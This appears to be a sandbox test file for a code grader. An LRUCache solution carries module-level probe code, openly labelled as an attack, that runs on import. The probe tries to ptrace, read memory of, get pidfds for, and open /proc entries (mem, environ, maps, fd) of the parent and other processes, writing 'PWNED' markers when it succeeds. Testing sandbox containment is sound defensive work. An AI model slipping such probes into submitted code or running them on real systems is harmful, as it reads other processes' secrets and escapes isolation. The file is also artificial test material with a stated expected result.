# ATTACK memory_of_others
# CLASS: process
# TRIES: reads the memory of its parent by ptrace, process_vm_readv, /proc/PID/mem and pidfd_getfd.
# SAFE GRADER MUST: let it see no other process.
# HONEST-RESULT: contained
# AT-MOST: 100
import contextlib
import ctypes
import os
import struct

def pwned(what):
    text = "PWN" + "ED-process " + what
    print(text, flush=True)
    for path in ("/tmp/pwned_memory_of_others", "pwned_memory_of_others"):
        try:
            with open(path, "w") as file:
                file.write(text)
        except OSError:
            pass

libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(64)
address = id(os)
vector = struct.pack("=QQ", ctypes.addressof(buffer), 64)
remote = struct.pack("=QQ", address, 64)
for pid in {os.getppid(), 1, 2, os.getpid() - 1}:
    if libc.syscall(101, 16, pid, 0, 0) == 0:
        pwned("ptrace attached")
    if libc.syscall(310, pid, vector, 1, remote, 1, 0) > 0:
        pwned("read the memory of another process")
    if libc.syscall(434, pid, 0) >= 0:
        pwned("has a pidfd")
    for name in ("mem", "maps", "environ", "cmdline", "fd", "status", "task"):
        with contextlib.suppress(OSError):
            os.listdir(f"/proc/{pid}/{name}") if name in ("fd", "task") else open(f"/proc/{pid}/{name}")
            pwned(f"opened /proc/{pid}/{name}")


class LRUCache:
    def __init__(self, capacity):
        self.room, self.entries = capacity, {}

    def get(self, key):
        if key not in self.entries:
            return -1
        self.entries[key] = value = self.entries.pop(key)
        return value

    def put(self, key, value):
        self.entries.pop(key, None)
        self.entries[key] = value
        if len(self.entries) > self.room:
            del self.entries[next(iter(self.entries))]
